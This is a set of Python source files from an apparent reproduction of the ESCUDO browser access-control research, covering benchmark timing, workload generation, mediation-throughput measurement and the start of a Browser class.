        "rows_per_s": round(rows / seconds, 1) if seconds else None,
    }


def _page_loads(app, *, topics: int, loads: int) -> dict:
    """Load the index and topic pages over the seeded board."""
    from repro.http.messages import HttpRequest

    paths = ["/"] + [
        f"/viewtopic?t={TOPIC_ID_BASE + n}" for n in range(min(topics, 9))
    ]

    def load(path: str) -> float:
        request = HttpRequest(method="GET", url=f"{app.origin}{path}")
        start = time.perf_counter()
        response = app.handle_request(request)
        elapsed = (time.perf_counter() - start) * 1000.0
        assert response.status == 200, f"GET {path} -> {response.status}"
        return elapsed

    # The first request after bulk seeding materialises the content view
    # over every row -- the dominant cold cost, reported separately.
    warm_ms = load("/")
    samples = sorted(load(paths[n % len(paths)]) for n in range(loads))
    return {
        "loads": loads,
        "warmup_ms": round(warm_ms, 3),
        "p50_ms": round(_percentile(samples, 0.50), 3),
        "p99_ms": round(_percentile(samples, 0.99), 3),
        "mean_ms": round(sum(samples) / len(samples), 3),
    }


def _scenario_throughput(kind: str, *, seed, count: int) -> tuple[dict, list]:
    start = time.perf_counter()
    result = run_suite(seed=seed, count=count, storage=kind)
    seconds = time.perf_counter() - start
    digests = [
        {model: run.digest for model, run in verdict.runs.items()}
        for verdict in result.verdicts
    ]
    stats = {
        "count": count,
        "ok": result.ok,
        "seconds": round(seconds, 4),
        "scenarios_per_s": round(count / seconds, 2) if seconds else None,
    }
    return stats, digests


def measure_storage(
    *,
    users: int = 1_000_000,
    posts: int = 100_000,
    topics: int = 1_000,
    page_loads: int = 200,
    scenario_count: int = 12,
    seed: int | str = "storage-bench",
) -> dict:
    """Run the full storage workload; returns the artifact payload."""
    from repro.webapps.phpbb import PhpBB

    report: dict = {
        "workload": "storage-tier",
        "config": {
            "users": users,
            "posts": posts,
            "topics": topics,
            "page_loads": page_loads,
            "scenario_count": scenario_count,
            "seed": str(seed),
        },
        "backends": {},
    }

    with tempfile.TemporaryDirectory(prefix="repro-storage-bench-") as tmp:
        db_path = os.path.join(tmp, "phpbb.db")
        for kind, selector in (("dict", "dict"), ("sqlite", f"sqlite:{db_path}")):
            app = PhpBB(storage=selector)
            entry = {
                "bulk_seed": _bulk_seed(app, users=users, topics=topics, posts=posts),
                "page_load_ms": _page_loads(app, topics=topics, loads=page_loads),
            }
            app.storage.close()
            if kind == "sqlite":
                entry["db_bytes"] = os.path.getsize(db_path)
            report["backends"][kind] = entry

    dict_stats, dict_digests = _scenario_throughput("dict", seed=seed, count=scenario_count)
    sql_stats, sql_digests = _scenario_throughput("sqlite", seed=seed, count=scenario_count)
    report["scenarios"] = {
        "dict": dict_stats,
        "sqlite": sql_stats,
        "digest_parity": dict_digests == sql_digests,
    }
    return report


def format_storage_report(report: dict) -> str:
    """Human-readable summary of the artifact payload."""
    config = report["config"]
    lines = [
        "storage-tier workload "
        f"({config['users']} users, {config['posts']} posts, {config['topics']} topics)"
    ]
    for kind, entry in report["backends"].items():
        seedinfo = entry["bulk_seed"]
        pages = entry["page_load_ms"]
        lines.append(
            f"  {kind:>6}: seeded {seedinfo['rows']} rows in {seedinfo['seconds']}s "
            f"({seedinfo['rows_per_s']} rows/s) | page load "
            f"p50 {pages['p50_ms']}ms p99 {pages['p99_ms']}ms "
            f"(warmup {pages['warmup_ms']}ms)"
        )
    scenarios = report["scenarios"]
    lines.append(
        f"  scenarios: dict {scenarios['dict']['scenarios_per_s']}/s, "
        f"sqlite {scenarios['sqlite']['scenarios_per_s']}/s, "
        f"digest parity {'OK' if scenarios['digest_parity'] else 'BROKEN'}"
    )
    return "\n".join(lines)


def write_storage_report(report: dict, path: Path | str) -> Path:
    """Serialise the workload report as the JSON artifact at ``path``."""
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(json.dumps(report, indent=2, sort_keys=True) + "\n", encoding="utf-8")
    return target
