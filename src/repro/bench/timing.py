"""Timing helpers for the overhead experiments.

``pytest-benchmark`` drives the statistically careful measurements in
``benchmarks/``; the helpers here provide the plain loops used to print the
Figure-4 style table (per-scenario means with and without ESCUDO and the
relative overhead), both from the benchmark harness and from the
``examples/overhead_fig4.py`` script.
"""

from __future__ import annotations

import statistics
import time
from dataclasses import dataclass
from typing import Callable

from repro.browser.loader import LoaderOptions, load_page

from .workloads import Workload


@dataclass
class TimingSample:
    """Summary statistics of repeated executions of one pipeline variant."""

    mean_ms: float
    stdev_ms: float
    minimum_ms: float
    repetitions: int

    @classmethod
    def from_durations(cls, durations_s: list[float]) -> "TimingSample":
        millis = [d * 1000.0 for d in durations_s]
        return cls(
            mean_ms=statistics.fmean(millis),
            stdev_ms=statistics.pstdev(millis) if len(millis) > 1 else 0.0,
            minimum_ms=min(millis),
            repetitions=len(millis),
        )


@dataclass
class OverheadRow:
    """One row of the Figure-4 table."""

    scenario: str
    without_escudo: TimingSample
    with_escudo: TimingSample
    elements: int
    ac_tags: int

    @property
    def overhead_percent(self) -> float:
        """Relative slowdown of the ESCUDO pipeline over the baseline.

        Computed from the per-variant *minimum* times: on shared machines the
        mean is dominated by scheduler noise, while the minimum estimates the
        actual work each pipeline performs (the quantity Figure 4 compares).
        """
        baseline = self.without_escudo.minimum_ms
        if baseline <= 0:
            return 0.0
        return (self.with_escudo.minimum_ms - baseline) / baseline * 100.0


def time_callable(fn: Callable[[], object], repetitions: int) -> TimingSample:
    """Run ``fn`` ``repetitions`` times and summarise the wall-clock cost."""
    durations: list[float] = []
    for _ in range(repetitions):
        start = time.perf_counter()
        fn()
        durations.append(time.perf_counter() - start)
    return TimingSample.from_durations(durations)


def parse_and_render(workload: Workload, *, escudo: bool, render: bool = True):
    """Run the loader pipeline once on a workload variant and return the page.

    The comparison mirrors the paper's: the *same* ESCUDO-configured page is
    loaded by a browser with ESCUDO enforcement ("with Escudo") and by a
    legacy browser that parses but ignores the AC attributes and headers
    ("without Escudo").  The difference is therefore exactly the cost of the
    ESCUDO bookkeeping -- configuration extraction, nonce validation and
    security-context tracking -- not the cost of the extra markup bytes.
    """
    if escudo:
        options = LoaderOptions(model="escudo", render=render)
        return load_page(workload.escudo_html, workload.url,
                         configuration=workload.configuration, options=options)
    options = LoaderOptions(model="sop", render=render)
    return load_page(workload.escudo_html, workload.url, configuration=None, options=options)


def measure_workload(workload: Workload, *, repetitions: int = 30, render: bool = True) -> OverheadRow:
    """Measure one scenario with and without ESCUDO (Figure 4's comparison).

    The two variants are timed *interleaved* (baseline, ESCUDO, baseline,
    ESCUDO, ...) rather than in two separate blocks, so slow drift in machine
    load affects both variants equally instead of biasing whichever block ran
    during the busy period.
    """
    baseline_durations: list[float] = []
    escudo_durations: list[float] = []
    for _ in range(repetitions):
        start = time.perf_counter()
        parse_and_render(workload, escudo=False, render=render)
        baseline_durations.append(time.perf_counter() - start)
        start = time.perf_counter()
        parse_and_render(workload, escudo=True, render=render)
        escudo_durations.append(time.perf_counter() - start)
    without = TimingSample.from_durations(baseline_durations)
    with_escudo = TimingSample.from_durations(escudo_durations)
    sample_page = parse_and_render(workload, escudo=True, render=render)
    return OverheadRow(
        scenario=workload.name,
        without_escudo=without,
        with_escudo=with_escudo,
        elements=sample_page.document.count_elements(),
        ac_tags=sample_page.labeling.ac_tags,
    )


def measure_all(workloads: list[Workload], *, repetitions: int = 30, render: bool = True) -> list[OverheadRow]:
    """Measure every scenario."""
    return [measure_workload(w, repetitions=repetitions, render=render) for w in workloads]


def average_overhead(rows: list[OverheadRow]) -> float:
    """Average relative overhead across scenarios (the paper reports 5.09 %)."""
    if not rows:
        return 0.0
    return statistics.fmean(row.overhead_percent for row in rows)
