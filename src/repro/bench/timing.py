"""Timing helpers for the overhead experiments.

``pytest-benchmark`` drives the statistically careful measurements in
``benchmarks/``; the helpers here provide the plain loops used to print the
Figure-4 style table (per-scenario means with and without ESCUDO and the
relative overhead), both from the benchmark harness and from the
``examples/overhead_fig4.py`` script.
"""

from __future__ import annotations

import statistics
import time
from dataclasses import dataclass
from typing import Callable

from repro.browser.loader import LoaderOptions, load_page
from repro.core.monitor import ReferenceMonitor

from .workloads import MEDIATION_SPEC, MediationRequest, MediationSpec, Workload, build_mediation_requests


@dataclass
class TimingSample:
    """Summary statistics of repeated executions of one pipeline variant."""

    mean_ms: float
    stdev_ms: float
    minimum_ms: float
    repetitions: int

    @classmethod
    def from_durations(cls, durations_s: list[float]) -> "TimingSample":
        millis = [d * 1000.0 for d in durations_s]
        return cls(
            mean_ms=statistics.fmean(millis),
            stdev_ms=statistics.pstdev(millis) if len(millis) > 1 else 0.0,
            minimum_ms=min(millis),
            repetitions=len(millis),
        )


@dataclass
class OverheadRow:
    """One row of the Figure-4 table."""

    scenario: str
    without_escudo: TimingSample
    with_escudo: TimingSample
    elements: int
    ac_tags: int
    #: Mediated accesses performed by the page's read sweep (see
    #: :func:`measure_page_mediation`).
    mediations: int = 0
    #: Throughput of that sweep through the reference monitor.
    mediations_per_second: float = 0.0
    #: Decision-cache hit rate observed over the sweep (0.0 when cache off).
    cache_hit_rate: float = 0.0

    @property
    def overhead_percent(self) -> float:
        """Relative slowdown of the ESCUDO pipeline over the baseline.

        Computed from the per-variant *minimum* times: on shared machines the
        mean is dominated by scheduler noise, while the minimum estimates the
        actual work each pipeline performs (the quantity Figure 4 compares).
        """
        baseline = self.without_escudo.minimum_ms
        if baseline <= 0:
            return 0.0
        return (self.with_escudo.minimum_ms - baseline) / baseline * 100.0


def time_callable(fn: Callable[[], object], repetitions: int) -> TimingSample:
    """Run ``fn`` ``repetitions`` times and summarise the wall-clock cost."""
    durations: list[float] = []
    for _ in range(repetitions):
        start = time.perf_counter()
        fn()
        durations.append(time.perf_counter() - start)
    return TimingSample.from_durations(durations)


def parse_and_render(workload: Workload, *, escudo: bool, render: bool = True):
    """Run the loader pipeline once on a workload variant and return the page.

    The comparison mirrors the paper's: the *same* ESCUDO-configured page is
    loaded by a browser with ESCUDO enforcement ("with Escudo") and by a
    legacy browser that parses but ignores the AC attributes and headers
    ("without Escudo").  The difference is therefore exactly the cost of the
    ESCUDO bookkeeping -- configuration extraction, nonce validation and
    security-context tracking -- not the cost of the extra markup bytes.
    """
    if escudo:
        options = LoaderOptions(model="escudo", render=render)
        return load_page(workload.escudo_html, workload.url,
                         configuration=workload.configuration, options=options)
    options = LoaderOptions(model="sop", render=render)
    return load_page(workload.escudo_html, workload.url, configuration=None, options=options)


def measure_workload(workload: Workload, *, repetitions: int = 30, render: bool = True) -> OverheadRow:
    """Measure one scenario with and without ESCUDO (Figure 4's comparison).

    The two variants are timed *interleaved* (baseline, ESCUDO, baseline,
    ESCUDO, ...) rather than in two separate blocks, so slow drift in machine
    load affects both variants equally instead of biasing whichever block ran
    during the busy period.
    """
    baseline_durations: list[float] = []
    escudo_durations: list[float] = []
    for _ in range(repetitions):
        start = time.perf_counter()
        parse_and_render(workload, escudo=False, render=render)
        baseline_durations.append(time.perf_counter() - start)
        start = time.perf_counter()
        parse_and_render(workload, escudo=True, render=render)
        escudo_durations.append(time.perf_counter() - start)
    without = TimingSample.from_durations(baseline_durations)
    with_escudo = TimingSample.from_durations(escudo_durations)
    sample_page = parse_and_render(workload, escudo=True, render=render)
    mediations, rate, mediation_hit_rate = measure_page_mediation(sample_page)
    return OverheadRow(
        scenario=workload.name,
        without_escudo=without,
        with_escudo=with_escudo,
        elements=sample_page.document.count_elements(),
        ac_tags=sample_page.labeling.ac_tags,
        mediations=mediations,
        mediations_per_second=rate,
        cache_hit_rate=mediation_hit_rate,
    )


def measure_page_mediation(page, *, passes: int = 3) -> tuple[int, float, float]:
    """Exercise the mediated DOM read sweep on a loaded page.

    Loading alone performs no authorizations (labelling is not an access);
    the mediation figures of the Figure-4 table come from the access pattern
    scripts actually exhibit -- repeated ``read`` sweeps over every element
    -- driven through the batched DOM facade.  Returns the number of
    mediated accesses, their throughput (mediations/second) and the
    decision-cache hit rate over the sweeps.
    """
    from repro.core.decision import Operation
    from repro.dom.dom_api import DomApi

    body = page.document.body
    principal = (
        page.principal_context_for(body) if body is not None else page.browser_principal()
    )
    api = DomApi(page.document, page.monitor, principal)
    elements = list(page.document.elements())
    before_total = page.monitor.stats.total
    cache = page.monitor.cache
    if cache is not None:
        cache.reset_counters()
    start = time.perf_counter()
    for _ in range(passes):
        api.authorize_sweep(elements, Operation.READ)
    duration = time.perf_counter() - start
    mediations = page.monitor.stats.total - before_total
    rate = mediations / duration if duration > 0 else 0.0
    hit_rate = cache.hit_rate if cache is not None else 0.0
    return mediations, rate, hit_rate


def measure_all(workloads: list[Workload], *, repetitions: int = 30, render: bool = True) -> list[OverheadRow]:
    """Measure every scenario."""
    return [measure_workload(w, repetitions=repetitions, render=render) for w in workloads]


def average_overhead(rows: list[OverheadRow]) -> float:
    """Average relative overhead across scenarios (the paper reports 5.09 %)."""
    if not rows:
        return 0.0
    return statistics.fmean(row.overhead_percent for row in rows)


# -- mediation throughput (cached vs. uncached monitor) -----------------------------------


@dataclass
class MediationSample:
    """Throughput summary of one monitor variant over one request stream."""

    variant: str
    total: int
    duration_s: float
    allowed: int
    denied: int
    cache_hit_rate: float = 0.0

    @property
    def mediations_per_second(self) -> float:
        """Authorizations mediated per second."""
        return self.total / self.duration_s if self.duration_s > 0 else 0.0

    def as_dict(self) -> dict[str, object]:
        """Serialise for the ``BENCH_mediation.json`` artifact."""
        return {
            "variant": self.variant,
            "total": self.total,
            "duration_s": self.duration_s,
            "mediations_per_second": self.mediations_per_second,
            "allowed": self.allowed,
            "denied": self.denied,
            "cache_hit_rate": self.cache_hit_rate,
        }


@dataclass
class MediationComparison:
    """Cached vs. uncached mediation over the identical request stream."""

    spec: MediationSpec
    cached: MediationSample
    uncached: MediationSample
    verdicts_identical: bool = True

    @property
    def speedup(self) -> float:
        """Warm-cache throughput relative to the uncached monitor."""
        baseline = self.uncached.mediations_per_second
        return self.cached.mediations_per_second / baseline if baseline > 0 else 0.0

    def as_dict(self) -> dict[str, object]:
        """Serialise for the ``BENCH_mediation.json`` artifact."""
        return {
            "workload": self.spec.name,
            "total_requests": self.spec.total_requests,
            "distinct_keys": self.spec.distinct_keys,
            "cached": self.cached.as_dict(),
            "uncached": self.uncached.as_dict(),
            "speedup": self.speedup,
            "verdicts_identical": self.verdicts_identical,
        }


def _run_requests(monitor: ReferenceMonitor, requests: list[MediationRequest]) -> float:
    """Mediate every request on ``monitor``; return the wall-clock seconds."""
    authorize = monitor.authorize
    start = time.perf_counter()
    for principal, target, operation in requests:
        authorize(principal, target, operation)
    return time.perf_counter() - start


def measure_mediation(
    spec: MediationSpec = MEDIATION_SPEC,
    *,
    chunk: int = 1_000,
) -> MediationComparison:
    """Measure mediation throughput with and without the decision cache.

    Both monitors enforce the same policy over the *same* request stream in
    the same run.  The cached monitor is fully warmed first (one untimed pass
    over the stream, which also warms the CPU caches for both variants); the
    timed passes then interleave ``chunk``-sized slices of the stream between
    the two monitors so machine-load drift hits both variants equally.  The
    per-request verdicts are compared to certify the cache changes nothing
    but speed.
    """
    requests = build_mediation_requests(spec)
    cached_monitor = ReferenceMonitor(cache=True)
    uncached_monitor = ReferenceMonitor(cache=False)

    # Warm pass: populates the decision cache and certifies verdict parity.
    warm_verdicts = [cached_monitor.authorize(p, t, op).allowed for p, t, op in requests]
    parity_verdicts = [uncached_monitor.authorize(p, t, op).allowed for p, t, op in requests]
    verdicts_identical = warm_verdicts == parity_verdicts

    for monitor in (cached_monitor, uncached_monitor):
        monitor.stats.reset()
        monitor.audit.clear()
    assert cached_monitor.cache is not None
    cached_monitor.cache.reset_counters()

    cached_s = 0.0
    uncached_s = 0.0
    for offset in range(0, len(requests), chunk):
        piece = requests[offset : offset + chunk]
        uncached_s += _run_requests(uncached_monitor, piece)
        cached_s += _run_requests(cached_monitor, piece)

    cached = MediationSample(
        variant="cached",
        total=cached_monitor.stats.total,
        duration_s=cached_s,
        allowed=cached_monitor.stats.allowed,
        denied=cached_monitor.stats.denied,
        cache_hit_rate=cached_monitor.cache.hit_rate,
    )
    uncached = MediationSample(
        variant="uncached",
        total=uncached_monitor.stats.total,
        duration_s=uncached_s,
        allowed=uncached_monitor.stats.allowed,
        denied=uncached_monitor.stats.denied,
        cache_hit_rate=0.0,
    )
    return MediationComparison(
        spec=spec, cached=cached, uncached=uncached, verdicts_identical=verdicts_identical
    )
