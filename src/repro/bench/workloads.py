"""Workload generation for the performance experiments.

Figure 4 of the paper measures parse + render time over "8 web pages
[with] varying amounts of AC tags and dynamic content", each page loaded
with and without ESCUDO, averaged over 90 executions.  This module generates
those eight scenarios synthetically and deterministically: page size, the
number of access-control scopes and the number of scripts all sweep upwards
so the benchmark exposes how ESCUDO's bookkeeping scales with the amount of
configuration on the page.

Each scenario can be rendered in two variants:

* ``escudo`` -- AC tags with ring/ACL/nonce attributes, ESCUDO headers;
* ``plain`` -- the identical content with every ESCUDO attribute stripped
  (the "Without Escudo" baseline of Figure 4).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.acl import Acl
from repro.core.config import PageConfiguration, ResourcePolicy
from repro.core.context import SecurityContext
from repro.core.decision import Operation
from repro.core.nonce import NonceGenerator
from repro.core.origin import Origin
from repro.core.rings import Ring, RingSet
from repro.webapps.templates import EscudoPageTemplate

#: Words used to synthesise text content (deterministic, no RNG needed).
_WORDS = (
    "ring", "policy", "browser", "principal", "object", "cookie", "script",
    "mediation", "origin", "privilege", "isolation", "scope", "nonce",
    "configuration", "enforcement", "granularity",
)


def _sentence(seed: int, length: int = 12) -> str:
    """A deterministic pseudo-sentence."""
    words = [_WORDS[(seed * 7 + i * 3) % len(_WORDS)] for i in range(length)]
    return " ".join(words) + "."


def _paragraph(seed: int, sentences: int = 3) -> str:
    return " ".join(_sentence(seed + i) for i in range(sentences))


@dataclass(frozen=True)
class ScenarioSpec:
    """Size parameters of one Figure-4 scenario."""

    name: str
    sections: int          # user-content sections, each in its own AC scope
    paragraphs_per_section: int
    scripts: int           # dynamic-content scripts sprinkled over the page
    tables: int            # additional static structure
    nesting: int           # depth of nested AC scopes inside each section

    @property
    def ac_tags(self) -> int:
        """Number of AC scopes the ESCUDO variant of this page carries.

        Every content section contributes ``nesting`` scopes; the chrome
        contributes one scope per table wrapper plus the page header, any
        scripts that spill over into the chrome, and the head/body scopes.
        """
        chrome_scopes = 1 + self.tables + max(0, self.scripts - self.sections)
        return self.sections * self.nesting + chrome_scopes + 2  # + head and body scopes


#: The eight scenarios: page size and configuration density both sweep up.
SCENARIOS: tuple[ScenarioSpec, ...] = (
    ScenarioSpec("S1-static-small", sections=2, paragraphs_per_section=2, scripts=0, tables=0, nesting=1),
    ScenarioSpec("S2-static-medium", sections=6, paragraphs_per_section=3, scripts=0, tables=1, nesting=1),
    ScenarioSpec("S3-static-large", sections=14, paragraphs_per_section=4, scripts=0, tables=2, nesting=1),
    ScenarioSpec("S4-few-scripts", sections=6, paragraphs_per_section=3, scripts=3, tables=1, nesting=1),
    ScenarioSpec("S5-many-scripts", sections=10, paragraphs_per_section=3, scripts=8, tables=1, nesting=1),
    ScenarioSpec("S6-nested-scopes", sections=8, paragraphs_per_section=3, scripts=3, tables=1, nesting=2),
    ScenarioSpec("S7-deeply-nested", sections=8, paragraphs_per_section=3, scripts=5, tables=2, nesting=3),
    ScenarioSpec("S8-heavy", sections=20, paragraphs_per_section=4, scripts=10, tables=3, nesting=2),
)


@dataclass
class Workload:
    """One generated page in both variants plus its configuration."""

    spec: ScenarioSpec
    escudo_html: str
    plain_html: str
    configuration: PageConfiguration
    url: str = "http://bench.example.com/page"

    @property
    def name(self) -> str:
        return self.spec.name


def _section_markup(spec: ScenarioSpec, index: int) -> str:
    """Inner markup of one content section (identical in both variants)."""
    paragraphs = "".join(
        f'<p id="p-{index}-{p}">{_paragraph(index * 31 + p)}</p>'
        for p in range(spec.paragraphs_per_section)
    )
    return f'<h3 id="section-title-{index}">Section {index}</h3>{paragraphs}'


def _script_markup(index: int) -> str:
    """One dynamic-content script: touches the DOM the way widgets do."""
    return (
        "<script>"
        f"var target = document.getElementById('section-title-{index}');"
        "if (target != null) { target.setAttribute('data-visited', 'yes'); }"
        f"var total = 0; for (var i = 0; i < 25; i = i + 1) {{ total = total + i; }}"
        "</script>"
    )


def _table_markup(index: int, rows: int = 6, cols: int = 4) -> str:
    cells = "".join(
        "<tr>" + "".join(f"<td>cell {r}.{c}</td>" for c in range(cols)) + "</tr>"
        for r in range(rows)
    )
    return f'<table id="table-{index}">{cells}</table>'


def build_workload(spec: ScenarioSpec, *, nonce_seed: int = 42) -> Workload:
    """Generate both page variants for one scenario."""
    escudo_html = _build_page(spec, escudo=True, nonce_seed=nonce_seed)
    plain_html = _build_page(spec, escudo=False, nonce_seed=nonce_seed)

    configuration = PageConfiguration(rings=RingSet(3))
    configuration.cookie_policies["bench_session"] = ResourcePolicy(ring=Ring(1), acl=Acl.uniform(1))
    configuration.api_policies["XMLHttpRequest"] = ResourcePolicy(ring=Ring(1), acl=Acl.uniform(1))
    return Workload(spec=spec, escudo_html=escudo_html, plain_html=plain_html, configuration=configuration)


def _build_page(spec: ScenarioSpec, *, escudo: bool, nonce_seed: int) -> str:
    page = EscudoPageTemplate(
        title=f"benchmark {spec.name}",
        escudo_enabled=escudo,
        nonces=NonceGenerator(nonce_seed),
        head_ring=Ring(0),
        chrome_ring=Ring(1),
    )
    page.add_head_style("p { margin: 2px; } table { border-collapse: collapse; }")
    page.add_chrome(f'<h1 id="page-title">Benchmark page {spec.name}</h1>', element_id="chrome-header")
    for t in range(spec.tables):
        page.add_chrome(_table_markup(t), element_id=f"table-wrap-{t}")

    script_budget = spec.scripts
    for index in range(spec.sections):
        inner = _section_markup(spec, index)
        if script_budget > 0:
            inner += _script_markup(index)
            script_budget -= 1
        # Nested AC scopes: each additional nesting level wraps the content
        # in a deeper, less privileged scope.
        for depth in range(spec.nesting - 1, 0, -1):
            ring = min(3, 2 + depth)
            if escudo:
                inner = (
                    f'<div ring="{ring}" r="2" w="2" x="2">' + inner + "</div>"
                )
            else:
                inner = "<div>" + inner + "</div>"
        page.add_content(inner, ring=3, read=2, write=2, use=2, element_id=f"section-{index}")

    # Any remaining script budget lands in the trusted chrome.
    for index in range(spec.sections, spec.sections + script_budget):
        page.add_chrome(_script_markup(index % max(spec.sections, 1)), element_id=f"chrome-script-{index}")
    return page.render()


def all_workloads(*, nonce_seed: int = 42) -> list[Workload]:
    """The eight Figure-4 workloads."""
    return [build_workload(spec, nonce_seed=nonce_seed) for spec in SCENARIOS]


def workload_by_name(name: str) -> Workload:
    """Look a scenario up by name (``S1`` .. ``S8`` prefixes accepted)."""
    for spec in SCENARIOS:
        if spec.name == name or spec.name.startswith(name):
            return build_workload(spec)
    raise KeyError(f"unknown scenario {name!r}")


# -- mediation-throughput workload ------------------------------------------------------
#
# The Figure-4 pages measure the *whole* load pipeline; the mediation workload
# isolates the reference monitor itself.  It models what the browser actually
# does on a busy page -- repeated accesses by a handful of script principals
# over a bounded set of object contexts (traversal sweeps, event dispatch,
# cookie attachment hit the same contexts again and again) -- which is
# exactly the access pattern the DecisionCache exists to absorb.


@dataclass(frozen=True)
class MediationSpec:
    """Shape of a repeated-access mediation workload."""

    name: str = "repeated-access"
    principal_rings: tuple[int, ...] = (0, 1, 2, 3)
    distinct_targets: int = 8
    operations: tuple[Operation, ...] = (Operation.READ, Operation.WRITE, Operation.USE)
    total_requests: int = 12_000

    @property
    def distinct_keys(self) -> int:
        """Number of distinct ``(principal, target, operation)`` triples."""
        return len(self.principal_rings) * self.distinct_targets * len(self.operations)


#: Default spec: 96 distinct request keys cycled to 12k authorizations, the
#: shape of a page whose scripts keep sweeping the same labelled regions.
MEDIATION_SPEC = MediationSpec()

#: One request the monitor mediates: ``(principal, target, operation)``.
MediationRequest = tuple[SecurityContext, SecurityContext, Operation]


def build_mediation_requests(
    spec: MediationSpec = MEDIATION_SPEC,
    *,
    origin_text: str = "http://bench.example.com",
) -> list[MediationRequest]:
    """Generate the deterministic request stream for one mediation workload.

    Principals sweep the rings; targets alternate ring assignments and ACLs so
    the stream contains a realistic mix of allow and deny verdicts (both
    outcomes must stay cheap).  The distinct triples are tiled round-robin up
    to ``total_requests``, mimicking repeated traversal sweeps over a page.
    """
    origin = Origin.parse(origin_text)
    principals = [
        SecurityContext(
            origin=origin, ring=Ring(ring), acl=Acl.uniform(ring), label=f"principal-r{ring}"
        )
        for ring in spec.principal_rings
    ]
    targets = [
        SecurityContext(
            origin=origin,
            ring=Ring(index % 4),
            acl=Acl.uniform(min(3, index % 4 + index % 2)),
            label=f"object-{index}",
        )
        for index in range(spec.distinct_targets)
    ]
    distinct: list[MediationRequest] = [
        (principal, target, operation)
        for principal in principals
        for target in targets
        for operation in spec.operations
    ]
    repeats = spec.total_requests // len(distinct) + 1
    return (distinct * repeats)[: spec.total_requests]
