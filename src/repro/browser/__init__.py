"""Browser substrate: the Lobo-prototype equivalent of the reproduction."""

from .browser import Browser, LoadedPage, make_browser
from .compile_cache import CachedTemplate, CompileCaches, TemplateCache
from .history import BrowserHistory, HistoryEntry
from .labeler import LabelingStats, PageLabeler, document_uses_escudo
from .loader import LoaderOptions, load_page
from .page import Page, RegisteredListener, ScriptRun
from .renderer import LayoutBox, Renderer, RenderStats, render_document
from .script_runtime import RuntimeObservations, ScriptRuntime
from .ui_events import UiEventLayer, UiEventResult
from .xhr import XmlHttpRequest

__all__ = [
    "Browser",
    "BrowserHistory",
    "CachedTemplate",
    "CompileCaches",
    "TemplateCache",
    "HistoryEntry",
    "LabelingStats",
    "LayoutBox",
    "LoadedPage",
    "LoaderOptions",
    "Page",
    "PageLabeler",
    "RegisteredListener",
    "RenderStats",
    "Renderer",
    "RuntimeObservations",
    "ScriptRun",
    "ScriptRuntime",
    "UiEventLayer",
    "UiEventResult",
    "XmlHttpRequest",
    "document_uses_escudo",
    "load_page",
    "make_browser",
    "render_document",
]
