"""The browser.

:class:`Browser` ties the substrates together the way the Lobo prototype
does in the paper: it fetches pages over the in-process network, stores
cookies (with their ESCUDO labels), runs the load pipeline (parse → extract
configuration → label → render), executes script principals, fires UI
events, and -- crucially -- routes *every* principal-initiated HTTP request
through a single mediation point so cookie attachment honours the ``use``
permission.

The protection model is selected per browser instance:

* ``model="escudo"`` -- the full ESCUDO policy; cookie attachment, DOM
  access, XHR use and event delivery are all mediated.
* ``model="sop"`` -- the legacy baseline.  DOM/cookie/script accesses are
  checked only against the origin rule, and cookies are attached to
  outgoing requests *unconditionally* (the legacy browser behaviour whose
  abuse is the CSRF attack).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.acl import Acl
from repro.core.context import SecurityContext
from repro.core.decision import Operation
from repro.core.origin import Origin
from repro.core.rings import Ring
from repro.faults.plan import NETWORK_RETRY_ATTEMPTS, SITE_NETWORK, SITE_XHR
from repro.http.cookies import Cookie, CookieJar, authorized_cookies, format_cookie_header
from repro.http.headers import Headers
from repro.http.messages import HttpRequest, HttpResponse
from repro.http.network import Network
from repro.http.url import Url

from .compile_cache import CompileCaches
from .event_loop import EventLoop
from .history import BrowserHistory
from .loader import LoaderOptions, load_page
from .page import Page
from .script_runtime import ScriptRuntime
from .ui_events import UiEventLayer, UiEventResult

#: Tags whose ``src`` is fetched automatically while loading a page.
SUBRESOURCE_TAGS = ("img", "iframe", "embed")

#: Maximum redirects followed for a top-level navigation.
MAX_REDIRECTS = 5


@dataclass
class LoadedPage:
    """A page together with its runtime machinery (scripts + events)."""

    page: Page
    runtime: ScriptRuntime
    events: UiEventLayer
    response: HttpResponse
    subresource_requests: list[str] = field(default_factory=list)


class Browser:
    """One browser instance (profile): cookie jar, history, protection model."""

    def __init__(
        self,
        network: Network,
        *,
        model: str = "escudo",
        run_scripts: bool = True,
        fetch_subresources: bool = True,
        max_script_steps: int = 500_000,
        enforce_scoping: bool = True,
        interleave_seed: int | None = None,
        caches: CompileCaches | None = None,
        script_engine: str = "vm",
        static_screen=None,
    ) -> None:
        if model not in ("escudo", "sop", "same-origin"):
            raise ValueError(f"unknown protection model {model!r}")
        if script_engine not in ("vm", "walker"):
            raise ValueError(f"unknown script engine {script_engine!r}")
        self.network = network
        self.model = "sop" if model in ("sop", "same-origin") else "escudo"
        self.run_scripts = run_scripts
        self.fetch_subresources = fetch_subresources
        self.max_script_steps = max_script_steps
        # Disabling the scoping rule is exclusively for the ablation
        # benchmark; the real model always enforces it.
        self.enforce_scoping = enforce_scoping
        # Seeds the deterministic permutation of same-due tasks in each
        # page's event loop (None = FIFO).  The scenario generator derives it
        # from the scenario seed, so replays reproduce the interleaving.
        self.interleave_seed = interleave_seed
        # Optional shared compile-cache stack (templates, script ASTs, and a
        # decision cache every page's monitor shares).  Several browsers --
        # e.g. all the actors of one scenario worker -- may share one stack;
        # warm loads are observably identical to cold ones.
        self.caches = caches
        # "vm" (bytecode + inline caches, default) or "walker" (reference
        # AST interpreter, selectable for differential parity runs).
        self.script_engine = script_engine
        # Optional StaticScreen (repro.analysis.soundness): every loaded
        # page's monitor reports its decisions to the screen, and every
        # executed script is statically analyzed, so the soundness oracle
        # can compare predictions against the live audit stream.
        self.static_screen = static_screen
        self.cookie_jar = CookieJar()
        self.history = BrowserHistory()
        self.loaded: list[LoadedPage] = []
        #: Fault plane for this browser's pages: armed by the scenario
        #: runner.  ``None`` keeps every path below on its plain branch.
        self.fault_plan = None

    # -- tabs -------------------------------------------------------------------------

    @property
    def tabs(self) -> list[LoadedPage]:
        """Every page this browser has loaded, oldest first (its open tabs).

        The scenario engine replays one session spec across protection
        models and addresses earlier pages by tab index, so the loaded list
        doubles as the browser's tab strip.
        """
        return self.loaded

    def tab(self, index: int = -1) -> LoadedPage:
        """One open tab by index (``-1`` is the most recent)."""
        if not self.loaded:
            raise IndexError("browser has no open tabs")
        return self.loaded[index]

